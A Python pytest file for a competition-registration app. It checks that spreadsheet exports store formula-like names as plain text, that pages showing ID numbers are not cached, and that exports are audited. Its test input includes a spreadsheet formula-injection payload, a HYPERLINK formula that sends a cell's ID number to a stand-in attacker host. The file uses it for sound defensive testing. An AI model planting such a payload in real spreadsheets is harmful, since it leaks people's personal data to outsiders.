"""Exports are safe to open and to hand out (DESIGN.md §5–6): a text that looks like a formula is
written as the exact text in a string cell, in every export and template; pages and files with
full ID or phone numbers are never stored by a cache; every such export is audited."""

import io
import json
import zipfile
from xml.sax.saxutils import escape

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from competitions.audit.models import AuditEntry
from competitions.contests.models import CompetitionState
from competitions.extensions import db
from competitions.judging import score_import
from competitions.registration import import_sheet
from competitions.registration.exports import registrations_workbook
from competitions.results import exports as results_exports
from competitions.spreadsheets.writer import Column, Sheet, workbook_bytes
from tests.factories import (
    make_competition,
    make_entry,
    make_event,
    make_organiser,
    make_worker,
    valid_id_number,
)
from tests.test_public_results import publish, results_setup
from tests.test_workers_views import sign_up_data

HYPERLINK = '=HYPERLINK("http://evil.example/?"&E2,"点击")'
# Each would start a formula (or a DDE call) if written as typed; tab and CR are on OWASP's list.
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def read_back(value: str) -> str:
    """What any XML reader sees: XML turns a CR in text into LF (the file holds the CR)."""
    return value.replace("\r", "\n")


def sheets_xml(content: bytes) -> str:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return "".join(archive.read(name).decode() for name in archive.namelist()
                   if name.startswith("xl/worksheets/"))


def assert_written_as_text(content: bytes, values: list[str]) -> None:
    """Each value is in a string cell, unchanged, flagged as text; no sheet holds a formula."""
    cells = {}
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells.setdefault(cell.value, cell)
    xml = sheets_xml(content)
    assert "<f>" not in xml and "<f " not in xml
    for value in values:
        cell = cells.get(read_back(value))
        assert cell is not None, value
        assert cell.data_type == "s" and cell.quotePrefix, value
        assert f">{escape(value)}</t>" in xml, value  # the exact text, no apostrophe added


# --- the one writer -------------------------------------------------------------------------

def test_the_writer_stores_every_text_as_the_exact_text():
    texts = [*FORMULAS, "#N/A", "=", "张三明"]
    content = workbook_bytes(Sheet("表", [Column("=header"), Column("B")],
                                   [[text, 1] for text in texts]))
    assert_written_as_text(content, FORMULAS + ["=header"])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert [c.value for c in sheet["A"]][1:] == [read_back(text) for text in texts]
    assert {c.data_type for c in sheet["A"]} == {"s"}  # "#N/A" is text, not an error
    assert not sheet["A10"].quotePrefix and sheet["B2"].value == 1
    assert sheet.freeze_panes == "A2"


# --- every export and template --------------------------------------------------------------

@pytest.fixture
def formula_entrants(tree):
    """An event whose entrants are named like formulas, one of them at a unit named like one."""
    competition = make_competition(tree.city, state=CompetitionState.REVIEW)
    event = make_event(competition, quota_per_org=None)
    tree.firm.name = "=1+2"
    for serial, name in enumerate(FORMULAS, start=1):
        make_entry(event, make_worker(tree.firm, name=name, id_number=valid_id_number(
            serial=serial), phone=f"1391234560{serial}"))
    db.session.commit()
    return event


def test_the_registration_export_writes_formula_like_names_as_text(app, formula_entrants):
    content = registrations_workbook([formula_entrants])
    assert_written_as_text(content, [*FORMULAS, "=1+2"])
    rows = list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True))
    assert (rows[1][1], rows[1][4]) == (HYPERLINK, valid_id_number(serial=1))  # E: ID number


def test_the_results_export_writes_formula_like_names_as_text(app, tree):
    setup = results_setup(tree)
    for worker, name in zip(setup.workers, FORMULAS, strict=False):
        worker.name = name
    setup.elsewhere[0].name = "@unit"
    setup.t1.component.name = "=theory"  # a column header
    publish(setup)
    content = results_exports.results_workbook(setup.event)
    assert_written_as_text(content, [*FORMULAS[:4], "@unit", "=theory"])


def test_the_score_import_template_writes_criterion_codes_as_text(app, tree):
    setup = results_setup(tree)
    setup.t1.code, setup.t1.description = "=T1", HYPERLINK
    db.session.flush()
    content = score_import.template_workbook(setup.event)
    assert_written_as_text(content, ["=T1"])
    notes = load_workbook(io.BytesIO(content))["填写说明"]
    assert any(HYPERLINK in (cell.value or "") for cell in notes["A"])
    assert load_workbook(io.BytesIO(content)).worksheets[0]["A2"].number_format == "@"


def test_the_registration_template_has_no_formula_and_text_id_cells(app):
    content = import_sheet.template_workbook()
    assert "<f>" not in sheets_xml(content)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    assert {c.data_type for c in sheet[1]} == {"s"} and sheet["B2001"].number_format == "@"


# --- no-store and the audit -----------------------------------------------------------------

def audit_entries(action: str) -> list[AuditEntry]:
    return list(db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == action)
                                   .order_by(AuditEntry.seq)))


def test_registration_exports_are_not_stored_and_are_audited(client, login_as, tree,
                                                             formula_entrants):
    organiser = make_organiser(tree.city)
    db.session.commit()
    login_as(organiser)
    event, competition = formula_entrants, formula_entrants.competition
    for url in (f"/registration/events/{event.id}/export.xlsx",
                f"/registration/competitions/{competition.id}/export.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers["Cache-Control"] == "no-store", url
        assert_written_as_text(response.data, FORMULAS)
    entries = audit_entries("registration.export")
    assert [(e.actor_id, e.subject_type, e.subject_id, json.loads(e.after)) for e in entries] \
        == [(organiser.id, "Event", str(event.id), {"people": len(FORMULAS)}),
            (organiser.id, "Competition", str(competition.id), {"people": len(FORMULAS)})]


def test_a_refused_export_is_not_audited(client, login_as, tree, formula_entrants):
    login_as(make_organiser(tree.other_city))
    assert client.get(f"/registration/events/{formula_entrants.id}/export.xlsx") \
        .status_code == 403
    assert audit_entries("registration.export") == []


def test_the_results_export_is_not_stored_and_is_audited(client, login_as, tree):
    setup = results_setup(tree)
    setup.workers[0].name = HYPERLINK
    publish(setup)
    login_as(setup.organiser)
    response = client.get(f"/events/{setup.event.id}/results.xlsx")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    assert_written_as_text(response.data, [HYPERLINK])
    (entry,) = audit_entries("results.export")
    assert (entry.actor_id, entry.subject_type, entry.subject_id, json.loads(entry.after)) \
        == (setup.organiser.id, "Event", str(setup.event.id), {"people": 4})


def test_a_page_with_a_full_id_number_is_not_stored(client, login_as, tree):
    worker = make_worker(tree.firm, id_number=valid_id_number(serial=321))
    organiser = make_organiser(tree.city)
    db.session.commit()
    login_as(organiser)
    response = client.get(f"/registration/workers/{worker.id}")
    assert response.status_code == 200 and worker.id_number in response.get_data(as_text=True)
    assert response.headers["Cache-Control"] == "no-store"


def test_a_posted_sign_up_that_echoes_the_id_number_is_not_stored(client, tree):
    data = sign_up_data(tree.firm, confirm="mismatch")
    response = client.post("/registration/signup", data=data)
    assert response.status_code == 200 and data["id_number"] in response.get_data(as_text=True)
    assert response.headers["Cache-Control"] == "no-store"


def test_public_pages_and_static_files_stay_cacheable(client, login_as, tree):
    home = client.get("/")
    assert home.status_code == 200
    assert "no-store" not in home.headers.get("Cache-Control", "")
    login_as(make_organiser(tree.city))
    assert "no-store" in client.get("/").headers["Cache-Control"]  # signed in: personal
    style = client.get("/static/favicon.svg")
    assert style.status_code == 200 and "no-store" not in style.headers.get("Cache-Control", "")
